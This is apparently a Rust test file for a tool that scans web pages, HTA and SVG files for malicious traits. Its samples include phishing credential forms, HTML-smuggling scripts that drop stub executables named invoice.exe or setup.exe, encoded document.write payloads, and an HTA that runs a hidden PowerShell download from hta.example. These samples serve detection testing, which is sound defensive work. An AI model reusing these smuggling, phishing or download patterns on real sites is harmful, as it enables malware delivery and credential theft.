//! Pages as a whole: facts, features, texts and the files that stand in them.

use expect_test::{Expect, expect};

use crate::shown::opened;

fn check(name: &str, bytes: &[u8], expected: &Expect) {
    expected.assert_eq(&opened(name, bytes));
}

#[test]
fn page_with_form_and_links() {
    check("login.html", b"<!DOCTYPE html><!-- saved from url=(0023)https://real.example/in --><title>Sign&nbsp;in</title><base href='https://evil.example/x/y.html'><meta http-equiv=refresh content=\"5; url='z.html'\"><form action='post.php' method=POST><input name=user><input type=password name=pass></form><a href=//b.example/q>text</a><iframe src=http://c.example></iframe><script src=http://d.example/a.js></script><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\"><a href='javascript:location.href%3D%22http://e.example%22'>go</a>", &expect![[r#"
        html
        > object:0 - 14 bytes GIF89a\u{1}\0\u{1}\0\0\0\0, size=14
        title: Sign in
        saved-from: https://real.example/in
        forms:
        -
            action: https://evil.example/x/post.php
            form-method: post
            fields:
            -
                name: user
                kind: text
            -
                name: pass
                kind: password
        scripts: 2
        frames:
        - http://c.example
        redirects:
        - https://evil.example/x/z.html
        - http://e.example
        links:
        - https://evil.example/x/y.html
        - https://evil.example/x/z.html
        - https://evil.example/x/post.php
        - https://b.example/q
        - http://c.example
        - http://d.example/a.js
        - http://e.example
        * credential-form field:user
        * external-link html
        * script script:0
        Code script:1: location.href=\"http://e.example\"
        Link link:0: https://evil.example/x/y.html
        Link html: https://evil.example/x/z.html
        Link link:2: https://evil.example/x/post.php
        Link link:3: https://b.example/q
        Link link:4: http://c.example
        Link link:5: http://d.example/a.js
        Link script:1: http://e.example
        Shown html: textgo
        Hidden html: saved from url=(0023)https://real.example/in\n
    "#]]);
}

#[test]
fn smuggled_by_blob() {
    check("s.html", b"<html><body><script>var d=\"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\";var b=atob(d);var u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i);var blob=new Blob([u],{type:\"octet/stream\"});var a=document.createElement(\"a\");a.href=URL.createObjectURL(blob);a.download=\"invoice\"+\".exe\";a.click();</script></body></html>", &expect![[r#"
        html
        > object:0 invoice.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=base64
        scripts: 1
        suspicious:
        -
            kind: writes
            word: createObjectURL
        -
            kind: writes
            word: new Blob
        -
            kind: decodes
            word: Uint8Array
        -
            kind: decodes
            word: atob
        * html-smuggling script:0
        * script script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: var d=\"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\";var b=atob(d);var u=new Uint8Array(b.le
        Code script:0: var d=\"TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\";var b=atob(d);var u=new Uint8Array(b.le
    "#]]);
}

#[test]
fn smuggled_by_array() {
    check("s2.html", b"<script>var u=new Uint8Array([77,90,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,64,0,0,0,80,69,0,0,76,1,0,0,0,0,0,0,0,0,0,0,0,0,0,0,96,0,2,1,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0]);if(window.navigator.msSaveOrOpenBlob)window.navigator.msSaveOrOpenBlob(new Blob([u]),\"doc.exe\");else{var l=document.createElement(\"a\");l.setAttribute(\"download\",\"doc.exe\");l.href=window.URL.createObjectURL(new Blob([u]))}</script>", &expect![[r#"
        html
        > object:0 doc.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188 method=character-codes
        scripts: 1
        suspicious:
        -
            kind: writes
            word: createObjectURL
        -
            kind: writes
            word: msSaveOrOpenBlob
        -
            kind: writes
            word: new Blob
        -
            kind: decodes
            word: Uint8Array
        * html-smuggling script:0
        * script script:0
        * embedded-file object:0
        * embedded-program object:0
        Code script:0: var u=new Uint8Array([77,90,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,64,0,0,0,80,69,0,0,76,1,0,0,0,0,0,0,0,0,0,0,0,0,0,0,96,0,2,1,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0
    "#]]);
}

#[test]
fn smuggled_in_an_address() {
    check("s3.html", b"<a id=x href=\"data:application/octet-stream;base64,TVoAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAQAAAAFBFAABMAQAAAAAAAAAAAAAAAAAAYAACAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=\" download=\"setup.exe\">Click</a>", &expect![[r#"
        html
        > object:0 setup.exe 188 bytes MZ\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0 size=188
        * html-smuggling html
        * embedded-file object:0
        * embedded-program object:0
        Shown html: Click
    "#]]);
}

#[test]
fn written_page() {
    check("w.html", b"<script>document.write(unescape(\"%3c%66%6f%72%6d%20%61%63%74%69%6f%6e%3d%22%68%74%74%70%3a%2f%2f%70%6f%73%74%2e%65%78%61%6d%70%6c%65%2f%70%2e%70%68%70%22%20%6d%65%74%68%6f%64%3d%22%70%6f%73%74%22%3e%3c%69%6e%70%75%74%20%74%79%70%65%3d%22%70%61%73%73%77%6f%72%64%22%20%6e%61%6d%65%3d%22%70%22%3e%3c%2f%66%6f%72%6d%3e\"));</script>", &expect![[r#"
        html
        forms:
        -
            action: http://post.example/p.php
            form-method: post
            fields:
            -
                name: p
                kind: password
        scripts: 1
        links:
        - http://post.example/p.php
        suspicious:
        -
            kind: decodes
            word: document.write
        -
            kind: decodes
            word: unescape
        decoded:
        -
            kind: percent
            text: <form action=\"http://post.example/p.php\" method=\"post\"><input type=\"password\" name=\"p\"></form>
        obfuscation:
        - escapes
        - decoded-and-run
        * credential-form field:p
        * script script:0
        * obfuscated 
        Code script:0: document.write(unescape(\"%3c%66%6f%72%6d%20%61%63%74%69%6f%6e%3d%22%68%74%74%70%3a%2f%2f%70%6f%73%74%2e%65%78%61%6d%70%6c%65%2f%70%2e%70%68%70%22%20%6d%65%74%68%6f%64%3d%22%70%6f%73%74%22%3e%3c%69%6e%70%75%74%20%74%79%70%65%3d%22%70%61%73%73%77%6f%72%64%22%20%6e%61%6d%65%3d%22%70%22%3e%3c%2f%66%6f%7
        Code script:0: document.write(\"<form action=\"http://post.example/p.php\" method=\"post\"><input type=\"password\" name=\"p\"></form>\");
        Link link:0: http://post.example/p.php
    "#]]);
}

#[test]
fn twice_written_page() {
    check("w2.html", b"<script>document.write(atob(\"PHNjcmlwdD5kb2N1bWVudC53cml0ZShhdG9iKCJQR2xtY21GdFpTQnpjbU05SW1oMGRIQTZMeTkwZDJsalpTNWxlR0Z0Y0d4bEx5SStQQzlwWm5KaGJXVSsiKSk8L3NjcmlwdD4=\"))</script>", &expect![[r#"
        html
        scripts: 2
        frames:
        - http://twice.example/
        links:
        - http://twice.example/
        suspicious:
        -
            kind: decodes
            word: atob
        -
            kind: decodes
            word: document.write
        decoded:
        -
            kind: base64
            text: <script>document.write(atob(\"PGlmcmFtZSBzcmM9Imh0dHA6Ly90d2ljZS5leGFtcGxlLyI+PC9pZnJhbWU+\"))</script>
        -
            kind: base64
            text: <iframe src=\"http://twice.example/\"></iframe>
        obfuscation:
        - decoded-and-run
        - nested-layers
        * external-link script:0
        * script script:0
        * obfuscated 
        Code script:0: document.write(atob(\"PHNjcmlwdD5kb2N1bWVudC53cml0ZShhdG9iKCJQR2xtY21GdFpTQnpjbU05SW1oMGRIQTZMeTkwZDJsalpTNWxlR0Z0Y0d4bEx5SStQQzlwWm5KaGJXVSsiKSk8L3NjcmlwdD4=\"))
        Code script:0: document.write(\"<script>document.write(atob(\"PGlmcmFtZSBzcmM9Imh0dHA6Ly90d2ljZS5leGFtcGxlLyI+PC9pZnJhbWU+\"))</script>\")
        Code script:0: <script>document.write(atob(\"PGlmcmFtZSBzcmM9Imh0dHA6Ly90d2ljZS5leGFtcGxlLyI+PC9pZnJhbWU+\"))</script>
        Code script:0: document.write(atob(\"PGlmcmFtZSBzcmM9Imh0dHA6Ly90d2ljZS5leGFtcGxlLyI+PC9pZnJhbWU+\"))
        Code script:0: document.write(\"<iframe src=\"http://twice.example/\"></iframe>\")
        Code script:0: <iframe src=\"http://twice.example/\"></iframe>
        Link link:0: http://twice.example/
    "#]]);
}

#[test]
fn application_in_html() {
    check("a.hta", b"<html><head><HTA:APPLICATION ID=\"o\" WINDOWSTATE=\"minimize\" SHOWINTASKBAR=\"no\"/><script language=\"VBScript\">Set s=CreateObject(\"WScript.Shell\"): s.Run \"powershell -w hidden iwr http://hta.example/x\", 0 : window.close</script></head></html>", &expect![[r#"
        hta
        attributes:
        -
            name: id
            value: o
        -
            name: windowstate
            value: minimize
        -
            name: showintaskbar
            value: no
        scripts: 1
        suspicious:
        -
            kind: runs
            word: WScript.Shell
        -
            kind: runs
            word: powershell
        -
            kind: downloads
            word: iwr
        -
            kind: evasion
            word: -w hidden
        prog-ids:
        - WScript.Shell
        * script script:0
        * runs-command script:0
        * downloads script:0
        Code script:0: Set s=CreateObject(\"WScript.Shell\"): s.Run \"powershell -w hidden iwr http://hta.example/x\", 0 : window.close
    "#]]);
}

#[test]
fn picture_with_script() {
    check("a.svg", b"<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"go()\"><script type=\"text/ecmascript\"><![CDATA[window.location.href = \"http://svg.example/\" + \"x\";]]></script><foreignObject><iframe src=\"http://frame.example/\"/></foreignObject><a xlink:href=\"http://link.example/\"><text>Open</text></a></svg>", &expect![[r#"
        svg
        scripts: 2
        frames:
        - http://frame.example/
        redirects:
        - http://svg.example/x
        links:
        - http://frame.example/
        - http://link.example/
        - http://svg.example/x
        decoded:
        -
            kind: concatenation
            text: http://svg.example/x
        * external-link html
        * script script:0
        Code script:0: go()
        Code script:1: window.location.href = \"http://svg.example/\" + \"x\";
        Code script:1: window.location.href = \"http://svg.example/x\";
        Link link:0: http://frame.example/
        Link link:1: http://link.example/
        Link script:1: http://svg.example/x
        Shown html: Open
    "#]]);
}

#[test]
fn conditional_comment() {
    check("c.html", b"<p>x</p><!--[if mso]><a href=\"http://cond.example/\">y</a><![endif]--><!-- <a href=\"http://hidden.example/\"> -->", &expect![[r#"
        html
        links:
        - http://cond.example/
        Link link:0: http://cond.example/
        Shown html: x\ny
        Hidden html: <a href=\"http://hidden.example/\">\n
    "#]]);
}

#[test]
fn ordinary_page() {
    check("o.html", b"<!DOCTYPE html><html><head><title>News</title><script>var n=document.getElementById(\"n\");n.innerHTML=\"<b>\"+1+\"</b>\";</script></head><body><h1>News</h1><p>Hello &amp; welcome.</p><form action=\"/search\"><input name=q></form></body></html>", &expect![[r#"
        html
        title: News
        forms:
        -
            action: /search
            form-method: get
            fields:
            -
                name: q
                kind: text
        scripts: 1
        * script script:0
        Code script:0: var n=document.getElementById(\"n\");n.innerHTML=\"<b>\"+1+\"</b>\";
        Code script:0: var n=document.getElementById(\"n\");n.innerHTML=\"<b>1</b>\";
        Shown html: News\nHello & welcome.
    "#]]);
}
